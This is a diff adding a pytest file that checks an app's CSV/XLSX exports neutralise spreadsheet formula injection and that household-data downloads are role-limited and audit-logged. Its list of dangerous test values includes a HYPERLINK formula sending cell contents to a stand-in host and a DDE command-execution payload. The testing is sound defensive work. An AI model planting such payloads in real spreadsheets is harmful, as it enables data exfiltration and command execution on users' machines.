@@ -1,0 +1,178 @@
+"""Files the app hands out: spreadsheet formulas neutralised in CSV and XLSX; household-level downloads guarded and logged."""
+
+import io
+import re
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from bebenah import export
+
+import accounts
+
+ROOT = Path(__file__).resolve().parents[1]
+DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
+             '=HYPERLINK("http://x.test/?"&A1,"klik")', "=cmd|' /C calc'!A0"]
+HARMLESS = ["Tanjung Barat", "31.74.09.1005", "a=b", "1-2", " spasi", "", "BKK-3174091005-001"]
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
+    assert export.neutralise_value(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", HARMLESS)
+def test_a_harmless_cell_is_left_as_it_is(value):
+    assert export.neutralise_value(value) == value
+
+
+def test_numbers_dates_and_missing_values_are_left_as_they_are():
+    frame = pd.DataFrame({
+        "households": [-3, 4], "share": [-0.5, 0.25], "day": pd.to_datetime(["2024-01-01", "2024-02-01"]),
+        "note": [None, "=1"], "mixed": [-1, "-1"],
+    })
+    safe = export.neutralise(frame)
+    assert safe.households.tolist() == [-3, 4]
+    assert safe.share.tolist() == [-0.5, 0.25]
+    assert safe.day.equals(frame.day)
+    assert pd.isna(safe.note.iloc[0]) and safe.note.iloc[1] == "'=1"
+    assert safe.mixed.tolist() == [-1, "'-1"]
+    assert frame.note.iloc[1] == "=1", "the input frame is not changed"
+
+
+def test_categorical_and_arrow_string_columns_and_column_names_are_neutralised():
+    frame = pd.DataFrame({
+        "category": pd.Series(["=1+1", "ok"], dtype="category"),
+        "arrow": pd.Series(["@x", "ok"], dtype="string[pyarrow]"),
+        "=SUM(1)": ["a", "b"],
+    })
+    safe = export.neutralise(frame)
+    assert safe["category"].tolist() == ["'=1+1", "ok"]
+    assert safe["arrow"].tolist() == ["'@x", "ok"]
+    assert list(safe.columns)[2] == "'=SUM(1)"
+
+
+def test_the_csv_starts_with_a_bom_and_reads_back_with_every_formula_quoted():
+    frame = pd.DataFrame({"catatan": DANGEROUS + HARMLESS})
+    data = export.csv_bytes(frame)
+    assert data.startswith(b"\xef\xbb\xbf")
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
+    for value in back.catatan:
+        assert not value.startswith(export.FORMULA_STARTS), repr(value)
+    assert back.catatan.iloc[0] == "'=1+1"
+
+
+def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row_with_a_formula():
+    # Unquoted, "Rumah\r=1+1" would be two rows to a spreadsheet, the second starting with =1+1.
+    frame = pd.DataFrame({"catatan": ["Rumah\r=1+1", "Rumah\n@SUM(1)"], "rw": [3, 4]})
+    data = export.csv_bytes(frame)
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
+    assert len(back) == 2
+    assert back.catatan.tolist() == ["Rumah\r=1+1", "Rumah\n@SUM(1)"]
+    assert data.count(b"\r\n") == 3  # header and two rows
+
+
+def test_the_xlsx_holds_no_formula_cell_and_every_dangerous_text_is_quoted():
+    frame = pd.DataFrame({"catatan": DANGEROUS + HARMLESS, "jumlah": range(len(DANGEROUS + HARMLESS))})
+    data = export.xlsx_bytes({"=Sheet": frame, "kedua": frame})
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    assert workbook.sheetnames == ["'=Sheet", "kedua"]
+    for sheet in workbook.worksheets:
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+        assert "'=1+1" in texts and "'@SUM(A1:A2)" in texts
+        assert not any(text.startswith(export.FORMULA_STARTS) for text in texts)
+
+
+def test_no_file_is_written_outside_export_py():
+    """Every CSV and XLSX the app produces goes through bebenah/export.py (or, listed, neutralises itself)."""
+    # bebenah/ingest.py writes the upload's problem list with its own _defused(): reported, and its
+    # formula list checked below; everything else must call export.
+    allowed = {"bebenah/export.py", "bebenah/ingest.py"}
+    offenders = []
+    for path in [ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("bebenah/*.py")]:
+        name = str(path.relative_to(ROOT))
+        if name in allowed:
+            continue
+        if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(", path.read_text()):
+            offenders.append(name)
+    assert not offenders, f"files written without export.neutralise: {offenders}"
+
+
+def test_every_download_button_hands_out_bytes_from_export():
+    """A download button's data comes from export.csv_bytes/xlsx_bytes (or a helper that calls them)."""
+    offenders = []
+    for path in [ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("bebenah/*.py")]:
+        text = path.read_text()
+        for match in re.finditer(r"download_button\((.*?)\n\s*\)|download_button\((.*?)\)\s*$", text, re.S | re.M):
+            call = match.group(0)
+            data = re.search(r"data=([\w.]+)", call)
+            if data and not re.search(r"(export\.|csv_bytes|xlsx_bytes|problems_csv|problems_xlsx|build)",
+                                      data.group(1)):
+                offenders.append(f"{path.name}: data={data.group(1)}")
+    assert not offenders, offenders
+
+
+def test_the_ingest_problem_list_neutralises_the_same_starts_as_export():
+    from bebenah import ingest
+
+    assert set(ingest.FORMULA_START) >= {"=", "+", "-", "@", "\t", "\r"}
+
+
+# Household-level downloads ------------------------------------------------------------------------
+
+
+def _download_app(role_area_rows):
+    import pandas as pd
+
+    from bebenah import export
+
+    rows = pd.DataFrame({"id_rumah_tangga": ["BKK-3174091005-001"], "kode_kelurahan": [role_area_rows]})
+    try:
+        export.household_download(rows, "rumah_tangga")
+    except PermissionError as error:
+        import streamlit as st
+
+        st.error(f"refused: {error}")
+
+
+def _run_download_app(role, kelurahan):
+    at = AppTest.from_function(_download_app, args=(kelurahan,))
+    if role:
+        accounts.sign_in(at, role)
+    return at.run()
+
+
+@pytest.mark.parametrize("role", [None, "viewer"])
+def test_household_rows_are_not_downloadable_by_viewers_or_guests(fixture_db, role):
+    at = _run_download_app(role, "31.74.09.1005")
+    assert at.error and "refused" in at.error[0].value
+    assert not at.get("download_button")
+
+
+def test_an_uploader_cannot_download_rows_outside_their_area(fixture_db):
+    at = _run_download_app("uploader", "31.74.03.1003")
+    assert at.error and "outside 31.74.09" in at.error[0].value
+    assert not at.get("download_button")
+
+
+@pytest.mark.parametrize("role", ["uploader", "admin"])
+def test_household_download_is_offered_in_area_and_logged_only_when_built(fixture_db, con, role, monkeypatch):
+    built = []
+    real_button = export.st.download_button
+    monkeypatch.setattr(export.st, "download_button", lambda *args, **kwargs: (built.append(kwargs["data"]),
+                                                                              real_button(*args, **kwargs))[1])
+    at = _run_download_app(role, "31.74.09.1005")
+    assert not at.error
+    assert len(at.get("download_button")) == 1
+    audit = "select actor, action, target, detail from audit_log where action = 'export_households'"
+    assert con.execute(audit).fetchall() == [], "nothing is logged before the click"
+    data = built[0]()
+    assert data.startswith(b"\xef\xbb\xbf") and b"BKK-3174091005-001" in data
+    (actor, action, target, detail), = con.execute(audit).fetchall()
+    assert (actor, action, target) == (accounts.ACCOUNTS[role]["username"], "export_households", "rumah_tangga")
+    assert '"rows": 1' in detail
